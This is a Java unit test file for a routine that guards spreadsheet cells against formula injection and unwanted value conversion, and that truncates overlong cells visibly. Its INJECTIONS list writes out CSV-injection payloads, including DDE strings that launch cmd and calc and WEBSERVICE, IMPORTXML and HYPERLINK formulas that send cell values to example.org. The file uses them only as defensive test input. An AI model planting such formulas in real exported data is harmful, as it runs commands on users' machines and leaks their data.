package io.mosskit.schema.labels;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

/// What a spreadsheet would run or turn into something else stands behind an apostrophe, and comes
/// back from there.
class GuardsCellsTest {

  static final List<String> INJECTIONS =
      List.of(
          "=1+1",
          "+1+1",
          "-1+1",
          "@SUM(1,1)",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          "=cmd|' /C calc'!A0",
          "=HYPERLINK(\"http://example.org/?x=\"&A1,\"点击这里\")",
          "@SUM(1+9)*cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "+cmd|' /C calc'!A0",
          "=WEBSERVICE(\"http://example.org/\"&A2)",
          "=IMPORTXML(CONCAT(\"http://example.org/\",A2),\"//a\")",
          "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
          " =1+1",
          "　　=求和(1,1)",
          "\u00A0\u200B=1+1",
          "\uFEFF=1+1",
          "\"=1+1\"",
          "\"\"\"=1+1",
          "“=1+1”",
          "'=1+1",
          "'' \"'=1+1",
          "\u0000=1+1",
          "＝1+1",
          "＠SUM(1)");

  static final List<String> CONVERTED =
      List.of(
          "0012",
          "12345678901234567",
          "123456789012",
          "1e5",
          "1E-7",
          "3-4",
          "1/2",
          "1 1/2",
          "3.10",
          "1,000",
          "50%",
          "(5)",
          "$5",
          "¥5",
          "１２",
          "10:30",
          "5 PM",
          "MAR1",
          "2-Sept",
          "1 January 2026",
          "2026-11-22",
          "2026年11月22日",
          "上午10时30分",
          "true",
          "FALSE",
          " 7",
          "７",
          "9".repeat(400));

  static final List<String> ORDINARY =
      List.of(
          "",
          " ",
          "0",
          "7",
          "12345678901",
          "What is 1+1?",
          "一加一等于几？",
          "moss-003",
          "2026-11-22T10:00:00Z",
          "a=b",
          "'tis",
          "“引号”",
          "May I?",
          "五月",
          "trueish",
          "😀",
          "'7",
          "web-search");

  @ParameterizedTest
  @FieldSource("INJECTIONS")
  void aFormulaIsGuarded(String text) {
    assertThat(Cell.guard(text)).isEqualTo("'" + text);
    assertThat(Cell.unguard(Cell.guard(text))).isEqualTo(text);
  }

  @ParameterizedTest
  @FieldSource("CONVERTED")
  void whatWouldBecomeAnotherValueIsGuarded(String text) {
    assertThat(Cell.guard(text)).isEqualTo("'" + text);
    assertThat(Cell.unguard(Cell.guard(text))).isEqualTo(text);
  }

  @ParameterizedTest
  @FieldSource("ORDINARY")
  void ordinaryTextStaysAsItIs(String text) {
    assertThat(Cell.guard(text)).isEqualTo(text);
    assertThat(Cell.unguard(text)).isEqualTo(text);
  }

  @Test
  void everyApostropheBeforeAFormulaCounts() {
    String text = "=1+1";
    for (int depth = 1; depth <= 5; depth++) {
      String guarded = Cell.guard(text);
      assertThat(guarded).isEqualTo("'" + text);
      assertThat(Cell.unguard(guarded)).isEqualTo(text);
      text = guarded;
    }
  }

  @Test
  void aCellThatLostItsApostropheInASpreadsheetReadsTheSame() {
    assertThat(Cell.unguard("=1+1")).isEqualTo("=1+1");
    assertThat(Cell.unguard("0012")).isEqualTo("0012");
  }

  @ParameterizedTest(name = "seed {0}")
  @ValueSource(longs = {1, 2, 3, 4, 5, 6, 7, 8})
  void guardingIsOneToOneAndLeavesNoFormula(long seed) {
    Random random = new Random(seed);
    Map<String, String> texts = new HashMap<>();
    for (int i = 0; i < 5_000; i++) {
      String text = Tables.randomCell(random);
      String cell = Cell.guard(text);
      assertThat(Cell.unguard(cell)).isEqualTo(text);
      assertThat(cell).doesNotContainPattern("^[=+\\-@\\t\\r]");
      assertThat(texts.merge(cell, text, (before, _) -> before)).isEqualTo(text);
    }
  }

  @ParameterizedTest(name = "seed {0}")
  @ValueSource(longs = {11, 12, 13, 14})
  void whatUnguardingGivesIsGuardedToTheSameCell(long seed) {
    Random random = new Random(seed);
    for (int i = 0; i < 5_000; i++) {
      String cell = Cell.guard(Tables.randomCell(random));
      assertThat(Cell.guard(Cell.unguard(cell))).isEqualTo(cell);
    }
  }

  @Test
  void aCellThatIsTooLongForExcelIsCutVisibly() {
    assertThat(Cell.of("字".repeat(32_767))).hasSize(32_767).endsWith("字");
    assertThat(Cell.of("字".repeat(32_768))).hasSize(32_767).endsWith("字…");
    assertThat(Cell.of("=" + "a".repeat(32_766))).hasSize(32_767).startsWith("'=a").endsWith("a…");
    assertThat(Cell.of("=" + "a".repeat(32_765))).hasSize(32_767).startsWith("'=a").endsWith("aa");
  }

  @Test
  void aCutFallsBetweenCharactersAsPeopleSeeThem() {
    String family = "👩‍👩‍👧";
    assertThat(Cell.shorten("茶" + family + "水", 9)).isEqualTo("茶…");
    assertThat(Cell.shorten("茶" + family + "水" + "热", 10)).isEqualTo("茶" + family + "…");
    assertThat(Cell.shorten("cafe\u0301 au lait", 5)).isEqualTo("caf…");
    assertThat(Cell.shorten("😀😀", 3)).isEqualTo("😀…");
    assertThat(Cell.shorten("abc", 1)).isEqualTo("…");
    assertThat(Cell.shorten("abc", 3)).isEqualTo("abc");
  }
}
